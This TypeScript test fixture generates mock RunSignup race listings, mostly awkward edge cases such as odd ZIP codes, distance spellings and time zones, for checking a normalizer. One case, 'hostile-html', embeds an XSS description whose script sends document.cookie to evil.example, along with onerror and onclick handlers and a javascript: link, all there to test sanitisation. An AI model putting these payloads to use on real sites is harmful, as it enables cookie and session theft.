/**
 * Races for the local RunSignup stand-in, in RunSignup's exact wire shape: the items of
 * GET /Rest/races?format=json&events=T (`{ race: {...} }`), with RunSignup's habits: "T"/"F" flags,
 * "MM/DD/YYYY" race dates, "M/D/YYYY HH:MM" times (event times in the race's zone, registration times in
 * Eastern), "$45.00" fees, null for absent links, HTML descriptions, and the same distance written many
 * ways ("13.1 Miles", "Half Marathon", "21.1K", "26.2").
 *
 * The awkward races (AWKWARD_RACES) come first, always: each is one case the normalizer must get right.
 * The rest are the local seed's realistic catalogue (infra/local/seed) written as RunSignup would serve it,
 * so the same `seed` and `today` always give the same races, ids and pages.
 */
import type { EventType } from '#shared/event-vocabulary';
import type { RaceEvent } from '#shared/schemas/event';
import { raceTimeZone } from '#shared/race-time-zones';
import { addDays } from '../seed/calendar.ts';
import { generateSeedEvents } from '../seed/generate-events.ts';
import { createRandom, type Random } from '../seed/random.ts';

export interface FixtureOptions {
  /** Races in all, the awkward ones included (all of them are returned even when count is smaller). */
  readonly count: number;
  /** The product's today, YYYY-MM-DD: upcoming races are dated after it, the past one before it. */
  readonly today: string;
  readonly seed: number;
}

/** Race ids of the generated races start here; awkward races have their own ids (AWKWARD_RACES). */
export const FIRST_GENERATED_RACE_ID = 100_000;

/** RunSignup's placeholder logo: a bare host, which is what races without a logo return. */
const NO_LOGO = 'https://d368g9lw5ileu7.cloudfront.net/';

type Wire = Record<string, unknown>;

// Date writing ------------------------------------------------------------------------------------------

const parts = (iso: string) => iso.split('-').map(Number) as [number, number, number];
/** "11/28/2026", as RunSignup writes race dates. */
export function rsuDate(iso: string): string {
  const [year, month, day] = parts(iso);
  return `${String(month).padStart(2, '0')}/${String(day).padStart(2, '0')}/${year}`;
}
/** "11/28/2026 07:30", as RunSignup writes event start times (race's zone). */
function rsuStart(iso: string, time: string): string {
  return `${rsuDate(iso)} ${time}`;
}
/** "6/1/2026 1:59" style, as RunSignup writes registration times (Eastern). */
function rsuStamp(iso: string, time: string): string {
  const [year, month, day] = parts(iso);
  return `${month}/${day}/${year} ${time}`;
}

// Awkward cases -----------------------------------------------------------------------------------------

/** Each awkward race: its id, what it tests, and what normalization must make of it. */
export const AWKWARD_RACES = [
  { id: 900_001, case: 'denver-late-start', expect: 'a 23:30 start in America/Denver keeps its Denver day' },
  { id: 900_002, case: 'zip-as-number', expect: 'zipcode 2116 (a number) becomes "02116", coordinates in Boston' },
  { id: 900_003, case: 'canadian', expect: "skipped 'not-us'" },
  { id: 900_004, case: 'puerto-rico', expect: "skipped 'not-us' (a US territory, not a state)" },
  { id: 900_005, case: 'hostile-html', expect: 'plain text: no script, handler, image or javascript: link; entities decoded' },
  { id: 900_006, case: 'distance-spellings', expect: "'13.1 Miles', 'Half Marathon', '5 mi', '50K' -> 5 Miles, Half Marathon, 50K; an ultra" },
  { id: 900_007, case: 'closed-cheaper-period', expect: 'fee is the open $45, not the closed $35 or the future $55' },
  { id: 900_008, case: 'draft', expect: "skipped 'draft-or-private'" },
  { id: 900_009, case: 'private', expect: "skipped 'draft-or-private'" },
  { id: 900_010, case: 'past', expect: "skipped 'past'" },
  { id: 900_011, case: 'cancelled', expect: 'imported with cancelled: true, title without the mark' },
  { id: 900_012, case: 'no-zip', expect: 'no zipCode; coordinates from the city' },
  { id: 900_013, case: 'full-state-name', expect: 'state "New Mexico" becomes NM' },
  { id: 900_014, case: 'virtual', expect: "virtual_race: tagged 'virtual'" },
  { id: 900_015, case: 'zero-events', expect: 'no distances; date from next_date' },
  { id: 900_016, case: 'trail-by-name', expect: 'running_race named Trail: trail_race on trail; ZIP+4 cut to 5; volunteer event ignored' },
  { id: 900_017, case: 'shouting-city', expect: 'city "AUSTIN", state "tx" -> Austin, TX' },
  { id: 900_018, case: 'invalid-name', expect: "skipped 'invalid' naming the field (name)" },
  { id: 900_019, case: 'two-day', expect: 'Saturday 5K and Sunday marathon: the race is on Saturday' },
  { id: 900_020, case: 'triathlon', expect: "'Sprint Triathlon' -> Sprint; triathlon" },
] as const;
export type AwkwardCase = (typeof AWKWARD_RACES)[number]['case'];

const awkwardId = (name: AwkwardCase) => AWKWARD_RACES.find((entry) => entry.case === name)?.id as number;

interface EventSpec {
  readonly name: string;
  readonly distance: string;
  readonly date: string;
  readonly time: string;
  readonly type?: string;
  readonly fees?: readonly Wire[];
  readonly volunteer?: boolean;
}

function period(opens: string, closes: string, fee: number): Wire {
  return {
    registration_opens: rsuStamp(opens, '0:00'),
    registration_closes: rsuStamp(closes, '23:59'),
    race_fee: `$${fee.toFixed(2)}`,
    processing_fee: `$${(fee * 0.06 + 1.5).toFixed(2)}`,
  };
}

function wireEvent(raceId: number, spec: EventSpec, index: number): Wire {
  return {
    event_id: raceId * 100 + index + 1,
    race_event_days_id: raceId * 3,
    name: spec.name,
    details: null,
    start_time: rsuStart(spec.date, spec.time),
    end_time: null,
    registration_opens: rsuStamp(addDays(spec.date, -180), '0:00'),
    event_type: spec.type ?? 'running_race',
    distance: spec.distance,
    volunteer: spec.volunteer ? 'T' : 'F',
    require_dob: 'T',
    require_phone: 'F',
    registration_periods: spec.fees ?? [],
  };
}

interface RaceSpec {
  readonly id: number;
  readonly name: string;
  readonly date: string;
  readonly endDate?: string;
  readonly street: string | null;
  readonly city: string;
  readonly state: string;
  /** The state code in the race's RunSignup URL, when `state` is not written as one. */
  readonly urlState?: string;
  readonly zip: string | number | null;
  readonly country?: string;
  readonly timezone: string;
  readonly description?: string;
  readonly draft?: boolean;
  readonly private?: boolean;
  readonly website?: string | null;
  readonly events: readonly EventSpec[];
  readonly created: string;
}

function wireRace(spec: RaceSpec): { race: Wire } {
  const slug = spec.name.replace(/[^A-Za-z0-9]+/g, '');
  const cityPath = spec.city.replace(/[^A-Za-z]+/g, '');
  return {
    race: {
      race_id: spec.id,
      name: spec.name,
      last_date: rsuDate(addDays(spec.date, -364)),
      last_end_date: rsuDate(addDays(spec.endDate ?? spec.date, -364)),
      next_date: rsuDate(spec.date),
      next_end_date: rsuDate(spec.endDate ?? spec.date),
      is_draft_race: spec.draft ? 'T' : 'F',
      is_private_race: spec.private ? 'T' : 'F',
      is_registration_open: spec.events.some((event) => (event.fees ?? []).length > 0) ? 'T' : 'F',
      created: rsuStamp(spec.created, '10:12'),
      last_modified: rsuStamp(spec.created, '16:40'),
      description: spec.description ?? null,
      url: `https://runsignup.com/Race/${(spec.urlState ?? spec.state).toUpperCase()}/${cityPath}/${slug}`,
      external_race_url: spec.website ?? null,
      external_results_url: null,
      fb_page_id: null,
      fb_event_id: null,
      address: {
        street: spec.street,
        city: spec.city,
        state: spec.state,
        zipcode: spec.zip,
        country_code: spec.country ?? 'US',
      },
      timezone: spec.timezone,
      logo_url: NO_LOGO,
      real_time_notifications_enabled: 'F',
      events: spec.events.map((event, index) => wireEvent(spec.id, event, index)),
    },
  };
}

/** The awkward races for a given today, in AWKWARD_RACES order. */
export function awkwardRaceItems(today: string): { race: Wire }[] {
  const soon = addDays(today, 12);
  const later = addDays(today, 40);
  const open = (fee: number, raceDay: string) => [period(addDays(today, -60), addDays(raceDay, -2), fee)];
  const created = addDays(today, -200);
  const base = { created, street: 'City Park', website: null } as const;
  const races: RaceSpec[] = [
    {
      ...base, id: awkwardId('denver-late-start'), name: 'Midnight Moon 10K', date: soon, city: 'Denver', state: 'CO', zip: '80202',
      timezone: 'America/Denver', street: 'Sloan\u2019s Lake Park',
      events: [{ name: 'Midnight Moon 10K', distance: '10K', date: soon, time: '23:30', fees: open(40, soon) }],
    },
    {
      ...base, id: awkwardId('zip-as-number'), name: 'Back Bay Harbor 5K', date: soon, city: 'Boston', state: 'MA', zip: 2116,
      timezone: 'America/New_York', street: 'Copley Square',
      events: [{ name: '5K', distance: '5K', date: soon, time: '08:00', fees: open(35, soon) }],
    },
    {
      ...base, id: awkwardId('canadian'), name: 'Toronto Waterfront 10K', date: soon, city: 'Toronto', state: 'ON', zip: 'M5V 3L9',
      country: 'CA', timezone: 'America/Toronto', street: 'Harbourfront Centre',
      events: [{ name: '10K', distance: '10K', date: soon, time: '08:00', fees: open(50, soon) }],
    },
    {
      ...base, id: awkwardId('puerto-rico'), name: 'San Juan Coastal Half Marathon', date: later, city: 'San Juan', state: 'PR',
      zip: '00901', timezone: 'America/Puerto_Rico', street: 'Paseo de la Princesa',
      events: [{ name: 'Half Marathon', distance: 'Half Marathon', date: later, time: '05:30', fees: open(70, later) }],
    },
    {
      ...base, id: awkwardId('hostile-html'), name: 'Bob&#39;s Turkey Trot &amp; Pie Run', date: soon, city: 'Columbus', state: 'OH', zip: '43215',
      timezone: 'America/New_York', street: 'Goodale Park',
      description:
        '<p>Run off the pie at Bob&#39;s annual trot &amp; family walk!&nbsp;</p>\r\n' +
        '<script>document.location="https://evil.example/steal?c="+document.cookie</script>' +
        '<p onclick="alert(1)">Course: two loops<br/>of Goodale Park.</p>' +
        '<img src="https://tracker.example/pixel.gif" width="1" height="1">' +
        '<img src="x" onerror="alert(document.domain)">' +
        '<style>body{display:none}</style>' +
        '<p><a href="javascript:alert(1)">Claim your prize</a> or <a href="https://bobstrot.example.org/info" target="_blank">read more</a>.</p>' +
        '<ul><li>Pies for the top 3</li><li>Kids&#39; dash &lt;1 mile&gt;</li></ul>',
      events: [{ name: '5K Run/Walk', distance: '5K', date: soon, time: '09:00', fees: open(30, soon) }],
    },
    {
      ...base, id: awkwardId('distance-spellings'), name: 'Lake Tahoe Shoreline Runs', date: later, city: 'South Lake Tahoe', state: 'CA',
      zip: '96150', timezone: 'America/Los_Angeles', street: 'Lakeview Commons',
      events: [
        { name: 'Half', distance: '13.1 Miles', date: later, time: '07:00', fees: open(95, later) },
        { name: 'Half Marathon (Early Start)', distance: 'Half Marathon', date: later, time: '06:30', fees: open(95, later) },
        { name: 'Five Miler', distance: '5 mi', date: later, time: '08:00', fees: open(45, later) },
        { name: 'Ultra', distance: '50K', date: later, time: '06:00', fees: open(140, later) },
      ],
    },
    {
      ...base, id: awkwardId('closed-cheaper-period'), name: 'Riverside Ramble 10K', date: later, city: 'Richmond', state: 'VA', zip: '23219',
      timezone: 'America/New_York', street: 'Brown\u2019s Island',
      events: [{
        name: '10K', distance: '10K', date: later, time: '08:00',
        fees: [
          period(addDays(today, -90), addDays(today, -1), 35),
          period(today, addDays(today, 14), 45),
          period(addDays(today, 15), addDays(later, -1), 55),
        ],
      }],
    },
    {
      ...base, id: awkwardId('draft'), name: 'Draft Dash 5K', date: later, city: 'Austin', state: 'TX', zip: '78701', draft: true,
      timezone: 'America/Chicago', events: [{ name: '5K', distance: '5K', date: later, time: '08:00', fees: open(30, later) }],
    },
    {
      ...base, id: awkwardId('private'), name: 'Members Only Mile', date: later, city: 'Portland', state: 'OR', zip: '97201', private: true,
      timezone: 'America/Los_Angeles', events: [{ name: 'Mile', distance: '1 Mile', date: later, time: '18:00', fees: open(15, later) }],
    },
    {
      ...base, id: awkwardId('past'), name: 'Last Month Loop 5K', date: addDays(today, -30), city: 'Madison', state: 'WI', zip: '53703',
      timezone: 'America/Chicago', events: [{ name: '5K', distance: '5K', date: addDays(today, -30), time: '08:00' }],
    },
    {
      ...base, id: awkwardId('cancelled'), name: 'CANCELLED - Riverfront Rally 5K', date: soon, city: 'Chattanooga', state: 'TN', zip: '37402',
      timezone: 'America/New_York', street: 'Coolidge Park',
      events: [{ name: '5K', distance: '5K', date: soon, time: '08:00', fees: open(30, soon) }],
    },
    {
      ...base, id: awkwardId('no-zip'), name: 'Flatirons Fun Run', date: later, city: 'Boulder', state: 'CO', zip: '',
      timezone: 'America/Denver', street: null,
      events: [{ name: 'Fun Run', distance: '2 Miles', date: later, time: '09:00', fees: open(20, later) }],
    },
    {
      ...base, id: awkwardId('full-state-name'), name: 'Santa Fe Plaza 10K', date: later, city: 'Santa Fe', state: 'New Mexico', urlState: 'NM', zip: '87501',
      timezone: 'America/Denver', street: 'Santa Fe Plaza',
      events: [{ name: '10K', distance: '10K', date: later, time: '08:00', fees: open(40, later) }],
    },
    {
      ...base, id: awkwardId('virtual'), name: 'Virtual Gratitude 5K', date: later, city: 'Omaha', state: 'NE', zip: '68102',
      timezone: 'America/Chicago', street: 'Anywhere you run',
      events: [{ name: 'Virtual 5K', distance: '5K', date: later, time: '00:00', type: 'virtual_race', fees: open(25, later) }],
    },
    {
      ...base, id: awkwardId('zero-events'), name: 'Harbor Lights Run', date: later, city: 'Annapolis', state: 'MD', zip: '21401',
      timezone: 'America/New_York', street: 'City Dock', events: [],
    },
    {
      ...base, id: awkwardId('trail-by-name'), name: 'Bear Creek Trail Half', date: later, city: 'Boulder', state: 'CO', zip: '80302-1234',
      timezone: 'America/Denver', street: 'Chautauqua Park', website: 'https://bearcreektrail.example.org/',
      events: [
        { name: 'Trail Half', distance: '21.1K', date: later, time: '07:00', fees: open(75, later) },
        { name: 'Course Marshal', distance: '', date: later, time: '05:30', volunteer: true, fees: [period(addDays(today, -60), later, 0)] },
      ],
    },
    {
      ...base, id: awkwardId('shouting-city'), name: 'CAPITOL CITY CLASSIC 10K', date: later, city: 'AUSTIN', state: 'tx', zip: '78701',
      timezone: 'America/Chicago', street: 'Auditorium Shores',
      events: [{ name: '10K', distance: '10k', date: later, time: '07:30', fees: open(45, later) }],
    },
    {
      ...base, id: awkwardId('invalid-name'), name: '', date: later, city: 'Tulsa', state: 'OK', zip: '74103',
      timezone: 'America/Chicago', events: [{ name: '5K', distance: '5K', date: later, time: '08:00', fees: open(30, later) }],
    },
    {
      ...base, id: awkwardId('two-day'), name: 'Grand Valley Marathon Weekend', date: later, endDate: addDays(later, 1), city: 'Grand Rapids',
      state: 'MI', zip: '49503', timezone: 'America/Detroit', street: 'Rosa Parks Circle',
      events: [
        { name: 'Saturday 5K', distance: '3.1 Miles', date: later, time: '08:00', fees: open(30, later) },
        { name: 'Sunday Marathon', distance: '26.2', date: addDays(later, 1), time: '07:00', fees: open(110, later) },
      ],
    },
    {
      ...base, id: awkwardId('triathlon'), name: 'Lake Lanier Sprint Tri', date: later, city: 'Gainesville', state: 'GA', zip: '30501',
      timezone: 'America/New_York', street: 'Lake Lanier Olympic Park',
      events: [{ name: 'Sprint Triathlon', distance: 'Sprint Triathlon', date: later, time: '07:00', type: 'triathlon', fees: open(95, later) }],
    },
  ];
  return races.map(wireRace);
}

// Generated races ---------------------------------------------------------------------------------------

const RSU_TYPES: Readonly<Record<EventType, string>> = {
  road_race: 'running_race',
  trail_race: 'trail_race',
  ultra_marathon: 'ultra',
  triathlon: 'triathlon',
  duathlon: 'duathlon',
  obstacle_race: 'obstacle_course',
  cycling: 'bike_race',
  fun_run: 'running_race',
  other: 'other',
};

/** The ways RunSignup races write each catalogue distance. */
function writtenDistance(label: string, type: EventType, random: Random): string {
  const spellings: Readonly<Record<string, readonly string[]>> = {
    '5K': ['5K', '5K', '5k', '3.1 Miles'],
    '10K': ['10K', '10K', '10k', '6.2 Miles'],
    'Half Marathon': ['Half Marathon', '13.1 Miles', '13.1', '21.1K'],
    Marathon: ['Marathon', '26.2 Miles', '26.2', 'Full Marathon'],
    '1 Mile': ['1 Mile', '1 mile', '1 mi'],
  };
  const listed = spellings[label];
  if (listed) return random.pick(listed);
  const miles = /^(\d+(?:\.\d+)?) Miles$/.exec(label);
  if (miles) return random.pick([label, `${miles[1]} mi`, `${miles[1]} Mile`]);
  const km = /^(\d+)K$/.exec(label);
  if (km) return random.pick([label, `${km[1]} km`]);
  if (type === 'triathlon' && /^(Sprint|Olympic|Super Sprint)$/.test(label)) return `${label} Triathlon`;
  return label;
}

function escapeHtml(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/'/g, '&#39;');
}

const START_TIMES = ['06:30', '07:00', '07:30', '08:00', '08:30', '09:00'];

/** One seeded event as RunSignup would serve it. */
function raceFromSeed(event: RaceEvent, raceId: number, today: string, random: Random): { race: Wire } {
  const type = event.eventType;
  const fee = event.registrationFee;
  const raceDay = event.eventDate;
  const periods: Wire[] = [];
  if (fee !== undefined) {
    const opened = addDays(today, -random.int(30, 200));
    const lastDay = addDays(raceDay, -1) >= today ? addDays(raceDay, -1) : raceDay;
    const switchDay = addDays(today, random.int(3, 30));
    if (random.chance(0.6) && fee >= 20) periods.push(period(opened, addDays(today, -random.int(1, 25)), fee - 10));
    if (switchDay < lastDay && random.chance(0.7)) {
      periods.push(period(addDays(today, -random.int(0, 20)), switchDay, fee));
      periods.push(period(addDays(switchDay, 1), lastDay, fee + random.pick([5, 10, 15])));
    } else {
      periods.push(period(addDays(today, -random.int(0, 20)), lastDay, fee));
    }
  }
  const events: EventSpec[] = event.distances.map((label, index) => ({
    name: random.chance(0.5) ? label : `${event.title.split(' ').slice(0, 2).join(' ')} ${label}`,
    distance: writtenDistance(label, type, random),
    date: raceDay,
    time: START_TIMES[Math.max(0, START_TIMES.length - 1 - index * 2 - random.int(0, 1))] as string,
    type: RSU_TYPES[type],
    fees: periods,
  }));
  const paragraphs = event.description ? [`<p>${escapeHtml(event.description)}</p>`] : [];
  if (paragraphs.length > 0 && random.chance(0.4)) paragraphs.push('<p><strong>Packet pickup:</strong> the day before, 3&ndash;7 p.m.</p>');
  return wireRace({
    id: raceId,
    name: event.title,
    date: raceDay,
    street: event.locationName,
    city: event.city,
    state: event.state,
    zip: event.zipCode ?? null,
    timezone: raceTimeZone(undefined, event.state),
    ...(paragraphs.length > 0 ? { description: paragraphs.join('\r\n') } : {}),
    website: event.websiteUrl ?? null,
    events,
    created: addDays(today, -random.int(20, 400)),
  });
}

/**
 * `count` races as RunSignup's race search returns them (`{ race }` items), the awkward ones first.
 * Deterministic: the same options give the same races, ids and order.
 */
export function fixtureRaces({ count, today, seed }: FixtureOptions): unknown[] {
  if (!Number.isInteger(count) || count < 0) throw new Error(`count must be a non-negative integer, got ${count}`);
  const awkward = awkwardRaceItems(today);
  const generatedCount = Math.max(0, count - awkward.length);
  const random = createRandom(seed ^ 0x5eed);
  const generated = generateSeedEvents({ count: generatedCount, today: addDays(today, 1), seed }).map((event, index) =>
    raceFromSeed(event, FIRST_GENERATED_RACE_ID + index, today, random),
  );
  return [...awkward, ...generated];
}
